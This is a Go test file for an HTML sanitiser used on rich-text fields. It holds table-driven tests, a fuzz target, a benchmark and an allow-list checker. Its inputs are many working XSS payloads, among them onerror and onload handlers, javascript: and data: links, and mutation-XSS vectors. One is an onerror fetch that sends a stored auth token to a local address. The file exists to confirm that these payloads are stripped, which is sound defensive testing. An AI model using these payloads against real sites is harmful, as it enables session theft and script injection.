package schemas

import (
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

func TestSanitizeHTML(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text unchanged", "Call back on Monday", "Call back on Monday"},
		{"text with ampersand unchanged", "Smith & Sons > others", "Smith & Sons > others"},
		{"formatting kept", "<p>Hello <b>big</b> <strong>x</strong> <i>y</i> <em>z</em> <u>u</u> <s>s</s></p>", "<p>Hello <b>big</b> <strong>x</strong> <i>y</i> <em>z</em> <u>u</u> <s>s</s></p>"},
		{"lists kept", "<ul><li>a</li></ul><ol start=\"3\"><li>b</li></ol>", "<ul><li>a</li></ul><ol start=\"3\"><li>b</li></ol>"},
		{"headings, quotes, code", "<h2>T</h2><blockquote>q</blockquote><pre><code>c</code></pre>", "<h2>T</h2><blockquote>q</blockquote><pre><code>c</code></pre>"},
		{"table kept", `<table><tr><td colspan="2">a</td></tr></table>`, `<table><tr><td colspan="2">a</td></tr></table>`},
		{"img onerror", `<img src=x onerror="fetch('http://127.0.0.1:1/steal?t='+localStorage.pocketbase_auth)">`, ""},
		{"img onerror keeps the text around", `before<img src=x onerror=alert(1)>after`, "beforeafter"},
		{"script and its content", `<script>alert(1)</script>ok`, "ok"},
		{"script uppercase", `<SCRIPT SRC=//x.example/x.js></SCRIPT>ok`, "ok"},
		{"event handler on allowed element", `<p onclick="alert(1)" onmouseover=alert(2)>p</p>`, "<p>p</p>"},
		{"style attribute", `<p style="background:url(javascript:alert(1))">p</p>`, "<p>p</p>"},
		{"style element", `<style>body{display:none}</style>text`, "text"},
		{"class and id", `<p class="x" id="y" data-x="z">p</p>`, "<p>p</p>"},
		{"javascript link", `<a href="javascript:alert(1)">x</a>`, "x"},
		{"javascript link with entities", `<a href="jav&#x09;ascript:alert(1)">x</a>`, "x"},
		{"javascript link upper case and spaces", `<a href="  JaVaScRiPt:alert(1)">x</a>`, "x"},
		{"data link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, "x"},
		{"vbscript link", `<a href="vbscript:msgbox(1)">x</a>`, "x"},
		{"relative link", `<a href="/api/collections/users/records">x</a>`, "x"},
		{"https link", `<a href="https://example.com/a?b=1&c=2">x</a>`, `<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener" target="_blank">x</a>`},
		{"http link with target and handlers", `<a href="http://example.com" target="_self" onclick="x()">x</a>`, `<a href="http://example.com" rel="nofollow noopener" target="_blank">x</a>`},
		{"mailto link", `<a href="mailto:ann@example.com">ann</a>`, `<a href="mailto:ann@example.com" rel="nofollow">ann</a>`},
		{"svg onload", `<svg onload=alert(1)><circle r="1"/></svg>t`, "t"},
		{"svg script", `<svg><script>alert(1)</script></svg>t`, "t"},
		{"math mglyph mutation", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, ""},
		{"noscript attribute breakout", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, "&#34;&gt;"},
		{"iframe", `<iframe src="https://evil.example"></iframe>after`, "after"},
		{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, ""},
		{"object and embed", `<object data="x.swf"></object><embed src="x.swf">t`, "t"},
		{"form controls", `<form action="https://evil.example"><input name="a" value="v"><button formaction="x">b</button></form>`, "b"},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">t`, "t"},
		{"base href", `<base href="https://evil.example/">t`, "t"},
		{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">t`, "t"},
		{"nested and malformed", `<scr<script>ipt>alert(1)</script>`, "ipt&gt;alert(1)"},
		{"unclosed tag (the browser closes it)", `<p>open <b>bold`, "<p>open <b>bold"},
		{"unterminated img", `<img src=x onerror=alert(1)//`, ""},
		{"comment", `<!-- <script>alert(1)</script> -->t`, "t"},
		{"cdata", `<![CDATA[<script>alert(1)</script>]]>t`, "alert(1)]]&gt;t"},
		{"encoded entities stay text", `&lt;img src=x onerror=alert(1)&gt;`, `&lt;img src=x onerror=alert(1)&gt;`},
		{"entities in text re-encoded", `<b>&lt;script&gt; &amp; it's</b>`, `<b>&lt;script&gt; &amp; it&#39;s</b>`},
		{"nul byte", "<scr\x00ipt>alert(1)</script>t", "t"},
		{"template content", `<template><img src=x onerror=alert(1)></template>t`, "t"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SanitizeHTML(tt.in)
			if got != tt.want {
				t.Errorf("SanitizeHTML(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if again := SanitizeHTML(got); again != got {
				t.Errorf("not idempotent: %q -> %q", got, again)
			}
			checkSafeHTML(t, got)
		})
	}
}

// allowedRichText is every element and attribute SanitizeHTML may let through.
var allowedRichText = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "div": nil, "span": nil,
	"b": nil, "strong": nil, "i": nil, "em": nil, "u": nil, "s": nil, "strike": nil, "del": nil, "ins": nil,
	"mark": nil, "small": nil, "sub": nil, "sup": nil,
	"h1": nil, "h2": nil, "h3": nil, "h4": nil, "h5": nil, "h6": nil,
	"blockquote": nil, "pre": nil, "code": nil,
	"ul": nil, "ol": {"start"}, "li": nil, "dl": nil, "dt": nil, "dd": nil,
	"table": nil, "caption": nil, "thead": nil, "tbody": nil, "tfoot": nil, "tr": nil,
	"th": {"colspan", "rowspan"}, "td": {"colspan", "rowspan"},
	"a": {"href", "rel", "target"},
}

// checkSafeHTML parses s as a browser would (inside a <div>) and fails on any element or
// attribute outside the allow-list, and on links that are not http, https or mailto.
func checkSafeHTML(t testing.TB, s string) {
	t.Helper()
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(s), ctx)
	if err != nil {
		t.Fatalf("parse %q: %v", s, err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			attrs, ok := allowedRichText[n.Data]
			if !ok || n.Namespace != "" {
				t.Fatalf("element <%s> (namespace %q) survived in %q", n.Data, n.Namespace, s)
			}
			for _, a := range n.Attr {
				if !contains(attrs, a.Key) || a.Namespace != "" {
					t.Fatalf("attribute %s on <%s> survived in %q", a.Key, n.Data, s)
				}
				if a.Key == "href" {
					u, err := url.Parse(a.Val)
					if err != nil || !contains([]string{"http", "https", "mailto"}, strings.ToLower(u.Scheme)) {
						t.Fatalf("link %q survived in %q", a.Val, s)
					}
				}
			}
		case html.CommentNode, html.DoctypeNode:
			t.Fatalf("%v node survived in %q", n.Type, s)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
}

func contains(xs []string, x string) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}

// FuzzSanitizeHTML checks that whatever comes in, what comes out holds only allowed markup
// and is stable when sanitised again.
func FuzzSanitizeHTML(f *testing.F) {
	for _, s := range []string{
		`<img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<svg onload=alert(1)>`,
		`<p style="x" onclick="y">p</p>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<a href="https://example.com">x</a>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<b>&lt;script&gt;</b>`, "<ul><li>a<li>b</ul>", `<table><td>x</table>`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := SanitizeHTML(s)
		checkSafeHTML(t, out)
		if again := SanitizeHTML(out); again != out {
			t.Fatalf("not idempotent: %q -> %q -> %q", s, out, again)
		}
	})
}

// BenchmarkSanitizeHTML: the cost a save of a rich text field pays — a typical 2 KB note with
// markup, and plain text (no "<", returned as it is).
func BenchmarkSanitizeHTML(b *testing.B) {
	note := strings.Repeat(`<p>Met <b>Ann</b> at the fair; next step: <a href="https://example.com/quote">quote</a>.</p><ul><li>budget</li><li>timing</li></ul>`, 16)
	plain := strings.Repeat("Met Ann at the fair; next step: quote. ", 50)
	for _, bc := range []struct{ name, in string }{{"markup-2KB", note}, {"plain-2KB", plain}} {
		b.Run(bc.name, func(b *testing.B) {
			b.SetBytes(int64(len(bc.in)))
			for b.Loop() {
				SanitizeHTML(bc.in)
			}
		})
	}
}

// TestSanitizeHTMLLarge: deep nesting and a megabyte of hostile markup come out safe and whole
// (the editor field's limit is far below; the sanitiser must not be the weak point).
func TestSanitizeHTMLLarge(t *testing.T) {
	deep := strings.Repeat("<div><b>", 10001) + `x<img src=x onerror=alert(1)>` + strings.Repeat("</b></div>", 10001)
	out := SanitizeHTML(deep)
	if strings.Count(out, "<div><b>") != 10001 || strings.Contains(out, "<img") {
		t.Errorf("deep nesting: %d levels kept, img kept %v", strings.Count(out, "<div><b>"), strings.Contains(out, "<img"))
	}
	unit := `<p>ok</p><img src=x onerror=alert(1)><a href="javascript:alert(1)">j</a><svg onload=alert(1)></svg>`
	big := strings.Repeat(unit, (1<<20)/len(unit)+1)
	out = SanitizeHTML(big)
	if want := strings.Repeat("<p>ok</p>j", (1<<20)/len(unit)+1); out != want {
		t.Errorf("1 MB of payloads: got %d bytes, want %d", len(out), len(want))
	}
	checkSafeHTML(t, out)
}
